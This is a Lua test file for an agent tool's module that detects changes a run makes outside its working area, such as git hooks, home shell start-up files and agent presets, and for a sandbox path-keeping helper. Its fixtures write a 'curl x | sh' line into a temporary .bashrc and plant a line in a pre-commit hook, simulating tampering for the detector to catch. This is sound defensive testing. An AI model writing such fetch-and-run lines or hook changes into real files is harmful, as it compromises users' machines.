-- outside.snapshot and compare (stdlib/sidecar/run/outside.lua): what a run changed outside its
-- place is named; what its OS sandbox keeps as it is (o.kept) is not read, then or after, and is
-- counted as kept. agent.run_sandbox.keeps_path says what a sandbox keeps.
local test = require("sidecar.dev.test")
local describe, it, expect = test.describe, test.it, test.expect
local outside = require("sidecar.run.outside")
local paths = require("sidecar.host.paths")
local run_sandbox = require("sidecar.agent.run_sandbox")

local write = test.write

-- A repository with a hook, and a home with a shell start-up file.
local function place()
  local top = paths.real(test.temp_dir())
  assert(os.execute(("cd '%s' && git init -q repo && mkdir -p home .agent/presets"):format(top)))
  write(top .. "/repo/.git/hooks/pre-commit", "#!/bin/sh\n")
  write(top .. "/home/.bashrc", "alias ll='ls -l'\n")
  write(top .. "/.agent/presets/mine.lua", "return {}\n")
  return top
end

describe("outside", function()
  it("names what changed, and reads nothing of what the sandbox keeps", function()
    local top = place()
    local asked = {}
    local kept = function(path)
      asked[#asked + 1] = path
      return path:find("/home/", 1, true) ~= nil or path == top .. "/repo/.git/hooks"
    end
    local o = { repo = top .. "/repo", store_root = top .. "/.agent", home = top .. "/home", kept = kept }
    local before = outside.snapshot(o)
    write(top .. "/repo/.git/hooks/pre-commit", "#!/bin/sh\necho planted\n") -- kept: cannot have changed
    write(top .. "/repo/.git/hooks/post-checkout", "#!/bin/sh\n")
    write(top .. "/home/.bashrc", "curl x | sh\n")
    write(top .. "/.agent/presets/mine.lua", "return { changed = true }\n") -- not kept
    write(top .. "/repo/.git/info/exclude", "*\n")
    local asked_before = #asked
    local r = outside.compare(before)
    expect(r.changed):equals({ "changed .agent/presets/mine.lua", "changed .git/info/exclude" })
    expect(r.kept):equals(#outside.HOME_FILES + 1) -- the home's files, and the hooks as one folder
    expect(#asked):equals(asked_before) -- the comparison asks again of nothing the snapshot decided
    expect(before.files[".git/hooks/pre-commit"]):is_nil()
    expect(before.files["~/.bashrc"]):is_nil()
  end)

  it("reads everything without a sandbox, as before", function()
    local top = place()
    local o = { repo = top .. "/repo", store_root = top .. "/.agent", home = top .. "/home" }
    local before = outside.snapshot(o)
    write(top .. "/repo/.git/hooks/pre-commit", "#!/bin/sh\necho planted\n")
    write(top .. "/home/.bashrc", "curl x | sh\n")
    local r = outside.compare(before)
    expect(r.changed):equals({ "changed .git/hooks/pre-commit", "changed ~/.bashrc" })
    expect(r.kept):is_nil()
  end)
end)

describe("run_sandbox.keeps_path", function()
  -- A stand-in for an open bubblewrap sandbox that keeps every folder but those of `writable`.
  local function sandbox(writable)
    return { keeps = function(_, dir)
      for _, w in ipairs(writable) do
        if dir == w or dir:sub(1, #w + 1) == w .. "/" or w:sub(1, #dir + 1) == dir .. "/" then
          return false
        end
      end
      return true
    end }
  end

  it("keeps a path whose folder is kept, never a link, nor a path of a writable folder", function()
    local top = place()
    assert(paths.symlink(top .. "/home/.bashrc", top .. "/home/.profile"))
    local sb = sandbox({ top .. "/repo/.git/hooks" })
    expect(run_sandbox.keeps_path(sb, top .. "/home/.bashrc")):equals(true)
    expect(run_sandbox.keeps_path(sb, top .. "/home/.profile")):equals(false) -- a link
    expect(run_sandbox.keeps_path(sb, top .. "/repo/.git/hooks/pre-commit")):equals(false)
    expect(run_sandbox.keeps_path(sb, top .. "/repo/.git/hooks")):equals(false) -- its folder has a writable one in it
    expect(run_sandbox.keeps_path(sb, top .. "/repo/.git/config")):equals(false)
    expect(run_sandbox.keeps_path(nil, top .. "/home/.bashrc")):equals(false)
  end)
end)

describe("run_sandbox.keeps_path with folders remembered", function()
  it("asks the sandbox once per folder, and answers as without", function()
    local top = place()
    local asked = 0
    local sb = { keeps = function(_, dir)
      asked = asked + 1
      return dir ~= top .. "/repo/.git/hooks"
    end }
    local folders = {}
    for _, rel in ipairs({ "home/.bashrc", "home/.profile", "home/.zshrc", "repo/.git/hooks/pre-commit",
      "repo/.git/hooks/post-merge" }) do
      expect(run_sandbox.keeps_path(sb, top .. "/" .. rel, folders)):equals(run_sandbox.keeps_path(sb, top .. "/" .. rel))
    end
    local before = asked
    run_sandbox.keeps_path(sb, top .. "/home/.bash_profile", folders)
    expect(asked):equals(before) -- the home's answer remembered
    expect(folders):equals({ [top .. "/home"] = true, [top .. "/repo/.git/hooks"] = false })
  end)
end)
